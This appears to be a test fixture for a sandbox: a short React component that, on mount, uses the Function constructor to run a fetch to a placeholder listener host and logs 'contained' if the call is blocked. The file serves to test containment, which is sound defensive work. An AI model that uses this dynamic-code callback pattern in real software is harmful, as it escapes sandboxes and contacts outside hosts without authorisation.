import { useEffect } from "react";

// Escape attempt: function_constructor
export default function Hostile() {
  useEffect(() => {
    try {
      new Function("fetch('__LISTENER__/function_constructor')")();
    } catch (error) {
      console.info("contained", error && error.message);
    }
  }, []);
  return <p data-testid="hostile">function_constructor</p>;
}
